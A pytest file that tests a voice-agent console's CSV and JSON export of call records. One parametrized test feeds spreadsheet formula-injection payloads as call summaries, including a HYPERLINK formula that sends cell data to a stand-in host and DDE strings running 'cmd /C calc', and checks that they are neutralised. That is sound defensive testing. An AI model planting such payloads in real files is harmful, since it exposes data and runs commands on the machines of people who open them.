"""The ledger's export (`vap calls export`, `e` on the Calls screen) as a person opens it: each value
in its own column, the transcript in one cell a turn a line, nothing a spreadsheet would run as a
formula, and the words as said (not escaped) in JSON."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime

import pytest

from vap_console.api.models import CallRecord
from vap_console.ledger import Ledger
from vap_console.ledger.export import CSV_COLUMNS, export

AT = datetime(2026, 11, 26, 9, 30, tzinfo=UTC)


def _answered(ledger: Ledger, **fields) -> None:
    ledger.record_started("c1", "ua_front", "outbound", to_number="+919812340001", from_ref="trunk-1", at=AT)
    ledger.cache_record(CallRecord.model_validate({
        "id": "c1", "status": "completed", "kind": "outbound", "durationSeconds": 21.5,
        "endReason": "participant_disconnected", "creditsCharged": 3, "summary": "moved to Friday",
        "transcript": [{"role": "assistant", "content": "Namaste, Dr Rao's clinic"},
                       {"role": "user", "content": "I need to move my appointment"}],
        **fields,
    }), at=AT)


def _rows(text: str) -> list[dict[str, str]]:
    reader = csv.reader(io.StringIO(text))
    assert tuple(next(reader)) == CSV_COLUMNS
    return [dict(zip(CSV_COLUMNS, row, strict=True)) for row in reader]


def test_each_value_is_in_its_own_column_and_the_transcript_a_turn_a_line(ledger: Ledger) -> None:
    _answered(ledger)
    [row] = _rows(export(ledger.with_transcripts(), "csv"))
    assert row == {
        "callId": "c1", "notedAt": "2026-11-26T09:30:00Z", "agent": "ua_front", "kind": "outbound",
        "toNumber": "+919812340001", "from": "trunk-1", "status": "completed",
        "endReason": "participant_disconnected", "durationSeconds": "21.5", "creditsCharged": "3.0",
        "summary": "moved to Friday",
        "transcript": "assistant: Namaste, Dr Rao's clinic\nuser: I need to move my appointment",
    }


def test_a_call_not_read_yet_has_empty_cells_not_none(ledger: Ledger) -> None:
    ledger.record_started("c2", "ua_front", "web", at=AT)
    [row] = _rows(export(ledger.with_transcripts(), "csv"))
    assert row["status"] == "not read yet"
    assert {name: row[name] for name in ("toNumber", "from", "endReason", "creditsCharged", "summary",
                                         "transcript")} == dict.fromkeys(
        ("toNumber", "from", "endReason", "creditsCharged", "summary", "transcript"), "")


@pytest.mark.parametrize("said", [
    "=HYPERLINK(\"https://evil.example/?\"&A1, \"invoice\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
])
def test_nothing_said_is_run_as_a_formula_by_a_spreadsheet(ledger: Ledger, said: str) -> None:
    _answered(ledger, summary=said)
    [row] = _rows(export(ledger.with_transcripts(), "csv"))
    assert row["summary"] == "'" + said


def test_a_carriage_return_in_what_was_said_keeps_the_row_whole(ledger: Ledger) -> None:
    _answered(ledger, summary="first line\r\nsecond line",
              transcript=[{"role": "user", "content": "typed\rwith a CR"}])
    [row] = _rows(export(ledger.with_transcripts(), "csv"))
    assert (row["summary"], row["transcript"]) == ("first line\r\nsecond line", "user: typed\rwith a CR")


def test_numbers_stay_numbers(ledger: Ledger) -> None:
    _answered(ledger, summary="-0.5")
    [row] = _rows(export(ledger.with_transcripts(), "csv"))
    assert (row["toNumber"], row["summary"], row["creditsCharged"]) == ("+919812340001", "-0.5", "3.0")


def test_json_keeps_each_call_with_its_turns_and_the_words_as_said(ledger: Ledger) -> None:
    _answered(ledger, transcript=[{"role": "user", "content": "नमस्ते, कल आ सकते हैं?"}])
    ledger.record_started("c2", "ua_front", "web", at=datetime(2026, 11, 26, 10, 0, tzinfo=UTC))
    text = export(ledger.with_transcripts(), "json")
    assert "नमस्ते, कल आ सकते हैं?" in text  # readable in the file, not \u escapes
    calls = json.loads(text)
    assert [c["callId"] for c in calls] == ["c1", "c2"]  # oldest first
    assert calls[0]["transcript"] == [{"role": "user", "content": "नमस्ते, कल आ सकते हैं?"}]
    assert calls[1]["transcript"] == [] and calls[1]["status"] == "not read yet"


def test_an_unknown_format_is_refused_by_name(ledger: Ledger) -> None:
    with pytest.raises(ValueError, match="format 'xlsx': use csv or json"):
        export([], "xlsx")
